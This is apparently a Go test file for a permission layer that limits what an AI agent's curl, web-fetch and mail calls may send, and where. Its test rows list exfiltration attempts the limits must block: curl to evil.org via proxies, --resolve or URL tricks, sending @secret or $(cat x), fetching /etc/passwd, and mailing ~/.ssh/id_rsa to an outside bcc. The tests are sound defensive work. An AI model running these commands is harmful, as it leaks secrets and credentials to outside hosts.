package grant_test

import (
	"strings"
	"testing"

	"github.com/policyctl/policyctl/pkg/grant"
	"github.com/policyctl/policyctl/pkg/policy"
)

// TestLimitsOffered shows what is offered for calls that send, and what they then cover:
// the same hosts and recipients, and no more than the size.
func TestLimitsOffered(t *testing.T) {
	mail := func(to any, body string, more ...string) *policy.Call {
		c := &policy.Call{Tool: "mcp__mail__send", Input: map[string]any{"to": to, "subject": "s", "body": body}, Dir: app, Home: home}
		for i := 0; i < len(more); i += 2 {
			c.Input[more[i]] = more[i+1]
		}
		return c
	}
	fetch := func(url string, more ...string) *policy.Call {
		c := tool("WebFetch", "url", url)
		for i := 0; i < len(more); i += 2 {
			c.Input[more[i]] = more[i+1]
		}
		return c
	}
	line := func(text string) *policy.Call { return policy.Shell(text, app) }
	big := strings.Repeat("x", 5000)
	for _, row := range []struct {
		call    *policy.Call
		want    string // "!" before what the reason holds
		covered []*policy.Call
		asks    []*policy.Call
	}{
		{line("curl -X POST -d a=1 https://api.example.com/v1"), "curl in /home/dev/app, to api.example.com, up to 4 kB",
			[]*policy.Call{line("curl -d b=2 'https://api.example.com/v2?x=y'"), line("curl https://API.example.com"), line("curl --json '{}' api.example.com")},
			[]*policy.Call{
				line("curl -d a=1 https://api.example.org/v1"), line("curl -d a=1 https://api.example.com.evil.org"), line("curl -d " + big + " https://api.example.com"),
				line("curl -d a=1 https://api.example.com https://evil.org"), line("curl -d a=1 -x http://evil.org https://api.example.com"),
				line("curl --resolve api.example.com:443:6.6.6.6 -d a=1 https://api.example.com"), line("curl --connect-to ::evil.org -d a https://api.example.com"),
				line("curl -L -d a=1 https://api.example.com"), line("curl -d @secret https://api.example.com"), line("curl -T f https://api.example.com"), line("curl -F a=@f https://api.example.com"),
				line("curl --unix-socket /run/x.sock -d a=1 https://api.example.com"), line("curl -K c https://api.example.com"), line("curl -d \"$(cat x)\" https://api.example.com"),
				line("curl -d a=1 https://u@evil.org/api.example.com"), line("curl -d a=1 https://{api.example.com,evil.org}"), line("curl --proxy evil.org https://api.example.com"),
				line("wget https://api.example.com"),
			}},
		{line("curl -d " + big + " https://api.example.com"), "curl in /home/dev/app, to api.example.com, up to 64 kB", nil, nil},
		{line("curl -d " + strings.Repeat("x", 17<<20) + " https://api.example.com"), "!", nil, nil},
		{line("curl -T f https://api.example.com"), "!sends a file", nil, nil},
		{line("curl -L https://api.example.com"), "!trust-verb", nil, nil},
		{line("scp f host:"), "!sends a file", nil, nil},
		{line("mail -s x ada@example.com"), "!trust-verb", nil, nil},
		{line("gh api repos/a/b/issues -f title=x"), "!trust-verb", nil, nil},
		{fetch("https://docs.example.com/a", "prompt", "what is it"), "fetch in /home/dev/app, to docs.example.com, up to 4 kB",
			[]*policy.Call{fetch("https://docs.example.com/b")},
			[]*policy.Call{fetch("https://docs.example.org/a"), fetch("https://docs.example.com/a", "body", big), fetch("https://docs.example.com/a", "upload", "f"), fetch("file:///etc/passwd"), fetch("http://10.0.0.1/")}},
		{mail("Ada@example.com", "hello"), "mcp__mail__send in /home/dev/app, for ada@example.com, up to 4 kB",
			[]*policy.Call{mail("ada@example.com", "other"), mail([]any{"ada@example.com"}, "other")},
			[]*policy.Call{
				mail("bob@example.com", "hello"), mail("ada@example.com, bob@example.com", "x"), mail([]any{"ada@example.com", "bob@example.com"}, "x"), mail("ada@example.com", big),
				mail("ada@example.com", "x", "bcc", "eve@evil.org"), mail("ada@example.com", "x", "attachments", "/home/dev/.ssh/id_rsa"), mail(nil, "x"), mail(map[string]any{"a": "b"}, "x"),
			}},
		{mail("ada@example.com", "x", "attachment", "f"), "!not known", nil, nil},
		{tool("mcp__db__query", "sql", "select 1"), "!not known", nil, nil},
	} {
		d := newDesk(t)
		row.call.Home, row.call.Session, row.call.Agent = home, "s1", "claude"
		entries, why := d.propose(row.call, grant.Here)
		if want, refused := strings.CutPrefix(row.want, "!"); refused != (len(entries) == 0) || refused && !strings.Contains(why, want) || !refused && texts(entries) != want {
			t.Errorf("%.80v: %q, %.200q; want %q", row.call.Input, texts(entries), why, row.want)
			continue
		}
		for i := range entries {
			entries[i].By, entries[i].Created = "test", start
		}
		d.entries = entries
		if len(entries) == 0 {
			continue
		}
		for _, c := range append(row.covered, row.call) {
			c.Home = home
			if v := d.decide(c); v.Decision != policy.Allow {
				t.Errorf("%s does not cover %.80v: %s, %s", texts(entries), c.Input, v.Decision, v.Why)
			}
		}
		for _, c := range row.asks {
			c.Home = home
			if v := d.decide(c); v.Decision == policy.Allow {
				t.Errorf("%s covers %.80v", texts(entries), c.Input)
			}
		}
	}
}

// TestLimitsNeeded shows that a tool that sends is never approved without limits, and that
// a verb which a person has trusted needs none.
func TestLimitsNeeded(t *testing.T) {
	d := newDesk(t)
	d.entries = []grant.Entry{{Verb: "fetch", Tool: "fetch", Scope: grant.Anywhere, By: "test"}, {Verb: "curl", Tool: "shell", Scope: grant.Anywhere, By: "test"}}
	if v := d.decide(tool("WebFetch", "url", "https://example.com")); v.Decision == policy.Allow {
		t.Errorf("fetch: %s", v.Rule)
	}
	if v := d.decide(policy.Shell("curl -d a=1 https://example.com", app)); v.Decision != policy.Allow {
		t.Errorf("curl: %s, %s", v.Decision, v.Why)
	}
}

// TestLimitsValid shows which limits make no sense.
func TestLimitsValid(t *testing.T) {
	e := grant.Entry{Verb: "curl", Tool: "shell", Scope: grant.Anywhere, By: "test"}
	for _, row := range []struct {
		ok bool
		l  grant.Limits
	}{
		{true, grant.Limits{Hosts: []string{"a.org"}, MaxBytes: 1}}, {true, grant.Limits{Recipients: []string{"a@a.org"}}},
		{false, grant.Limits{}}, {false, grant.Limits{MaxBytes: 1}}, {false, grant.Limits{Hosts: []string{"a.org"}, MaxBytes: -1}},
		{false, grant.Limits{Hosts: []string{""}}}, {false, grant.Limits{Hosts: []string{"*.org"}}}, {false, grant.Limits{Hosts: []string{"a.org b.org"}}},
		{false, grant.Limits{Hosts: make([]string, 17)}}, {false, grant.Limits{Recipients: []string{"a\n"}}},
	} {
		if e.Limits = &row.l; (e.Validate() == nil) != row.ok {
			t.Errorf("%+v: %v", row.l, e.Validate())
		}
	}
}
